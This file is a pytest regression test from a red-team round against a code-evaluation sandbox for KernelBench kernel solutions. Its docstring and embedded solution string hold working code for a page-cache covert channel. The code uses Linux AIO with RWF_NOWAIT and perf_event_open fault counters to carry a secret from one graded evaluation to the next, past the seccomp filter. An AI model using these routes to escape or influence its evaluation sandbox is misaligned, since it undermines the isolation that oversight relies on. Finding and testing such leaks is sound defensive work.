"""rt11: a KernelBench evaluation reads which host file pages are cached through Linux AIO.

Attack: the jail's seccomp filter (sandboxes/jailhelp.filter_program) refuses every call that
asks the page cache directly -- fadvise64, readahead, mincore, cachestat, move_pages, io_uring,
preadv2 with RWF_NOWAIT -- but not the older Linux AIO calls. `io_setup` + `io_submit` of one
IOCB_CMD_PREAD with `aio_rw_flags = RWF_NOWAIT` completes with -EAGAIN when the page is not
cached and 4096 when it is: the same question preadv2(RWF_NOWAIT) asked, answered with no disk
read. Evaluation A of a solution caches the pages of a 16-bit secret (plain `pread`s of a large
/usr library, 256 KiB apart, all uncached before); evaluation B of another solution reads the
secret back at import and raises it.

Before (measured, 2-core machine, kernel 6.18, seccomp and Landlock confinement on -- in the
same worker preadv2(RWF_NOWAIT) fails EPERM and /proc/self/pagemap EACCES): A `same`, B
`runtime_error` "RuntimeError: RT11-SEEN-46089-END" with the secret 46089 chosen by the test:
state left by one evaluation, read exactly by the next (the round-8 counter, the round-10
pagemap reader, now without any refused call). The same read makes a program or repository
run's memo (rounds 8-10) work again, since those runs sit under the same filter.

Second route, same bits: perf_event_open (x86_64 298) is allowed too; a software counter of the
worker's own major faults (PERF_COUNT_SW_PAGE_FAULTS_MAJ, allowed at perf_event_paranoid 2)
around a touch of a one-page MADV_RANDOM mapping says "cached" when it stays 0 -- the reading
run_confinement's refused getrusage gave (red team 9's `ru_majflt`). Measured: B raised the
secret exactly (3199, 49630); without MADV_RANDOM 15 of 16 bits (this disk's 8 MB read-around).

Root cause: sandboxes/jailhelp.py filter_program's deny list names io_uring (425-427) but not
io_setup/io_submit/io_getevents (x86_64 206/209/208, aarch64 0/2/4); RWF_NOWAIT reaches the
page cache through `iocb.aio_rw_flags` as well as through preadv2's flags.
and run_confinement._rusage_filter refuses getrusage but not perf_event_open.
Fix: refuse io_setup (EPERM) in filter_program (nothing a kernel or a bench needs), or at
least io_submit; keep the list of NOWAIT routes (preadv2, pwritev2, AIO, io_uring) together;
refuse perf_event_open in the jail's filter (or at least in the confinement's).
"""
from __future__ import annotations

import ctypes
import os
import random

import pytest

from kopt.sandboxes.evaluator import EvalConfig, evaluate

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
TASK = os.path.join(ROOT, "benchmarks", "examples", "relu_task.py")

SOLUTION = '''
import ctypes
import os
import struct

import torch
import torch.nn as nn

PATH = @PATH@
SLOTS = @SLOTS@
SECRET = @SECRET@


def _cached(fd, off):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    ctx = ctypes.c_ulong(0)
    if libc.syscall(206, 8, ctypes.byref(ctx)) != 0:  # io_setup
        raise RuntimeError(f"io_setup refused errno {ctypes.get_errno()}")
    buf = ctypes.create_string_buffer(4096)
    # struct iocb: data, key, aio_rw_flags = RWF_NOWAIT, IOCB_CMD_PREAD, prio, fd, buf, nbytes, offset, ...
    iocb = ctypes.create_string_buffer(struct.pack("QIIHhIQQqQII", 1, 0, 8, 0, 0, fd, ctypes.addressof(buf),
                                                   4096, off, 0, 0, 0), 64)
    arr = (ctypes.c_void_p * 1)(ctypes.addressof(iocb))
    if libc.syscall(209, ctx, 1, arr) != 1:  # io_submit
        raise RuntimeError(f"io_submit refused errno {ctypes.get_errno()}")
    ev = ctypes.create_string_buffer(32)
    libc.syscall(208, ctx, 1, 1, ev, None)  # io_getevents
    libc.syscall(207, ctx)
    return struct.unpack("QQqq", ev.raw)[2] == 4096  # -EAGAIN: not cached


def _no_major_fault(fd, off):
    import mmap
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    # perf_event_attr: PERF_TYPE_SOFTWARE, size 128, PERF_COUNT_SW_PAGE_FAULTS_MAJ; exclude_kernel|exclude_hv
    attr = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 128, 6, 0, 0, 0, 0x60), 128)
    pfd = libc.syscall(298, attr, 0, -1, -1, 0)
    if pfd < 0:
        raise RuntimeError(f"perf_event_open refused errno {ctypes.get_errno()}")
    m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ, offset=off)
    m.madvise(mmap.MADV_RANDOM)  # no read-around (up to the device's 8 MB here) into the other slots
    before = struct.unpack("Q", os.read(pfd, 8))[0]
    m[0]
    after = struct.unpack("Q", os.read(pfd, 8))[0]
    m.close()
    os.close(pfd)
    return after == before


fd = os.open(PATH, os.O_RDONLY)
if SECRET >= 0:
    for i, off in enumerate(SLOTS):
        if SECRET >> i & 1:
            os.pread(fd, 4096, off)
elif SECRET == -1:
    seen = sum(1 << i for i, off in enumerate(SLOTS) if _cached(fd, off))
    raise RuntimeError(f"RT11-SEEN-{seen}-END")
elif SECRET == -2:
    seen = sum(1 << i for i, off in enumerate(SLOTS) if _no_major_fault(fd, off))
    raise RuntimeError(f"RT11-SEEN-{seen}-END")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
'''


def _big_file() -> str:
    found = []
    for folder in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib"):
        try:
            found += [(e.stat().st_size, e.path) for e in os.scandir(folder) if e.is_file(follow_symlinks=False)]
        except OSError:
            pass
    return max(found)[1]


def _uncached_slots(path: str, n: int) -> list[int]:
    """N page offsets 256 KiB apart whose neighbourhood the host has not cached (mincore here,
    in the test's own unconfined process)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    fd = os.open(path, os.O_RDONLY)
    try:
        size = os.fstat(fd).st_size
        addr = libc.mmap(None, size, 1, 1, fd, 0)  # PROT_READ, MAP_SHARED
        vec = (ctypes.c_ubyte * ((size + 4095) // 4096))()
        assert libc.mincore(ctypes.c_void_p(addr), size, vec) == 0
        libc.munmap(ctypes.c_void_p(addr), size)
    finally:
        os.close(fd)
    free = [p for p in range(64, len(vec) - 64, 64) if not any(b & 1 for b in vec[p - 40:p + 40])]
    if len(free) < n:
        pytest.skip(f"{path}: fewer than {n} uncached slots left")
    return [p * 4096 for p in random.sample(free, n)]


@pytest.mark.parametrize("reader", [-1, -2], ids=["aio_nowait", "perf_major_faults"])
def test_a_page_cache_secret_does_not_reach_a_later_evaluation(tmp_path, reader: int):
    path = _big_file()
    if os.path.getsize(path) < 32 << 20:
        pytest.skip("no large library under /usr/lib")
    slots = _uncached_slots(path, 16)
    secret = random.randrange(1, 1 << 16)
    code = SOLUTION.replace("@PATH@", repr(path)).replace("@SLOTS@", repr(slots))
    (tmp_path / "a.py").write_text(code.replace("@SECRET@", str(secret)))
    (tmp_path / "b.py").write_text(code.replace("@SECRET@", str(reader)))
    first = evaluate(TASK, str(tmp_path / "a.py"), EvalConfig(device="cpu"))
    assert first["verdict"] in ("same", "faster", "slower"), first
    second = evaluate(TASK, str(tmp_path / "b.py"), EvalConfig(device="cpu"))
    assert f"RT11-SEEN-{secret}-END" not in (second.get("reason") or ""), second["reason"]
